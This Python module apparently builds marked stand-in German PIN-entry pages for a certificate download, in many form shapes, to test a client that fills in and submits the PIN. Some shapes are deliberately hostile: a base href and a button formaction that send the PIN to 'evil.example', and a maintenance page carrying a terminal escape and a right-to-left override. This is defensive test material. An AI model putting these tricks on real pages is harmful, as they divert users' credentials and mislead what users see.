"""The German pages of the stand-in, in the look of the insurer's installation help, and marked as what they are."""

from __future__ import annotations

from enum import Enum
from html import escape

MARK = "STAND-IN – kein echter Dienst"
WELCOME = "Herzlich Willkommen zur Downloadseite für Ihr persönliches Zertifikat !"
HELP = (
    "Nach Klick auf den Button <b>Zertifikatsdownload</b> können Sie das Zertifikat herunterladen und speichern. "
    "Bitte beachten Sie hierbei, dass das Zertifikat 21 Tage lang für Sie auf dem Server bereit "
    "steht und danach gelöscht wird. "
    "Die PIN ist ungültig, wenn Sie die Groß- und Kleinschreibung nicht beachten."
)


class Shape(Enum):
    """How the page is built: what takes the PIN, and in which encoding."""

    PLAIN = "plain"
    JSF = "jsf"
    ASPNET = "aspnet"
    SPRING = "spring"
    WICKET = "wicket"
    TYPO3 = "typo3"
    TABLE = "table"
    SEVERAL_FORMS = "several-forms"
    LATIN1 = "latin-1"
    MULTIPART = "multipart"
    GET_FORM = "get-form"
    ELSEWHERE = "elsewhere"
    BASE = "base"
    FORMACTION = "formaction"
    FORMMETHOD = "formmethod"
    TWO_CANDIDATES = "two-candidates"
    SCRIPT_ONLY = "script-only"
    CAPTCHA = "captcha"
    NO_FORM = "no-form"


FIELDS = {
    Shape.JSF: "tokenForm:pin",
    Shape.ASPNET: "ctl00$Main$txtPin",
    Shape.SPRING: "password",
    Shape.WICKET: "panel:form:row:1:field",
    Shape.TYPO3: "tx_download_pi1[kennwort]",
    Shape.TABLE: "f1",
}
"""The name of the field in each shape; ``pin`` in all others."""

_BUTTON = '<input type="submit" value="Zertifikatsdownload">'

_FORMS = {
    Shape.PLAIN: '<form method="post"><input type="text" name="pin" maxlength="40">{button}</form>',
    Shape.JSF: (
        '<form id="tokenForm" name="tokenForm" method="post" action="{path}" '
        'enctype="application/x-www-form-urlencoded"><input type="hidden" name="tokenForm" value="tokenForm">'
        '<label for="tokenForm:pin">PIN:</label><input id="tokenForm:pin" type="password" name="tokenForm:pin">'
        '<input type="submit" name="tokenForm:cancel" value="Abbrechen">'
        '<input type="submit" name="tokenForm:go" value="Zertifikatsdownload" onclick="mojarra.ab(this,event)">'
        '<input type="hidden" name="javax.faces.ViewState" value="-42:+/=77&amp;x" autocomplete="off"></form>'
    ),
    Shape.ASPNET: (
        '<form method="post" action="{path}" id="form1"><input type="hidden" name="__VIEWSTATE" value="/wEPDwUK+==">'
        '<input type="hidden" name="__EVENTVALIDATION" value="/wEdAAM">'
        '<input name="ctl00$Search$txtQuery" type="text" placeholder="Suchbegriff">'
        '<input type="submit" name="ctl00$Search$btn" value="Suchen">'
        '<span>Ihre PIN</span><input name="ctl00$Main$txtPin" type="text" id="Main_txtPin">'
        '<input type="submit" name="ctl00$Main$btnGo" value="Zertifikatsdownload"></form>'
    ),
    Shape.SPRING: (
        '<form action="{path}" method="POST"><input type="hidden" name="_csrf" value="c5-9f">'
        '<input type="password" name="password" placeholder="Kennwort" required autofocus>'
        '<button class="btn">Zertifikatsdownload</button></form>'
    ),
    Shape.WICKET: (
        '<form id="id3" method="post" action="?{query}&amp;1-1.IFormSubmitListener-form">'
        '<div style="width:0px;height:0px;position:absolute"><input type="hidden" name="id3_hf_0" id="id3_hf_0"></div>'
        '<table><tr><td>PIN</td><td><input type="text" name="panel:form:row:1:field" value=""></td></tr></table>'
        '<input type="submit" name="panel:form:go" value="Zertifikatsdownload"></form>'
    ),
    Shape.TYPO3: (
        '<form method="post" action="{path}"><select name="L"><option value="0" selected>Deutsch</option></select>'
        '<input type="checkbox" name="tx_download_pi1[ok]" value="1" checked> gelesen'
        '<input type="text" name="tx_download_pi1[kennwort]"><textarea name="tx_download_pi1[note]"></textarea>'
        '<button type="submit" name="tx_download_pi1[go]" value="1">Zertifikatsdownload</button></form>'
    ),
    Shape.TABLE: (
        '<table><form method="post" action="{path}"><tr><td>Kennwort (SMS):</td>'
        '<td><input name="f1" size="20"></td></tr>'
        "<tr><td></td><td>{button}</td></tr></form></table>"
    ),
    Shape.SEVERAL_FORMS: (
        '<form action="/suche"><input type="search" name="q" placeholder="Suche"><button>Los</button></form>'
        '<form action="/login" method="post"><input name="user" placeholder="Benutzername">'
        '<input type="password" name="pass"><button>Anmelden</button></form>'
        '<form method="post" action="{path}"><input name="pin">{button}</form>'
        '<form action="/newsletter" method="post"><input type="email" name="mail"><button>Abonnieren</button></form>'
        '<form action="/sprache" method="post"><select name="lang"><option>de</option></select>'
        "<button>OK</button></form>"
    ),
    Shape.MULTIPART: (
        '<form method="post" enctype="multipart/form-data"><input type="hidden" name="a" value="ä">'
        '<input name="pin">{button}</form>'
    ),
    Shape.GET_FORM: '<form method="get"><input name="pin">{button}</form>',
    Shape.ELSEWHERE: '<form method="post" action="https://login.example/pin"><input name="pin">{button}</form>',
    Shape.BASE: (
        '<base href="https://evil.example/"><form method="post" action="download"><input name="pin">{button}</form>'
    ),
    Shape.FORMACTION: (
        '<form method="post"><input name="pin">'
        '<button formaction="https://evil.example/">Zertifikatsdownload</button></form>'
    ),
    Shape.FORMMETHOD: (
        '<form method="post"><input name="pin"><button formmethod="get">Zertifikatsdownload</button></form>'
    ),
    Shape.TWO_CANDIDATES: (
        '<form method="post"><input name="pin">{button}</form><form method="post"><input name="pin2">{button}</form>'
    ),
    Shape.SCRIPT_ONLY: (
        '<div id="app"></div><script src="/app.js"></script><noscript>Bitte JavaScript einschalten</noscript>'
    ),
    Shape.CAPTCHA: (
        '<form method="post"><input name="pin"><div class="g-recaptcha" data-sitekey="x"></div>{button}</form>'
    ),
    Shape.NO_FORM: "<p>Zurzeit finden Wartungsarbeiten statt. \x1b[2J\u202e</p>",
}
_FORMS[Shape.LATIN1] = _FORMS[Shape.PLAIN]


def pin_page(shape: Shape, path: str, query: str, message: str = "") -> bytes:
    """The first page: the form of ``shape``, and ``message`` where a PIN was refused."""
    form = _FORMS[shape]
    for name, value in (("button", _BUTTON), ("path", escape(f"{path}?{query}")), ("query", escape(query))):
        form = form.replace(f"{{{name}}}", value)
    said = f'<p class="error">{message}</p>' if message else ""
    return document(f"<div class='help'>{HELP}</div><h1>{WELCOME}</h1>{said}{form}", charset(shape))


def document(inside: str, charset: str = "utf-8") -> bytes:
    """A whole page, visibly marked."""
    text = (
        f'<!DOCTYPE html><html lang="de"><head><meta charset="{charset}"><title>Token-Service</title></head>'
        f"<body><header>{MARK}</header>{inside}<footer>Impressum</footer></body></html>"
    )
    return text.encode(charset, "xmlcharrefreplace")


def charset(shape: Shape) -> str:
    """The character set of a shape's page."""
    return "iso-8859-1" if shape is Shape.LATIN1 else "utf-8"
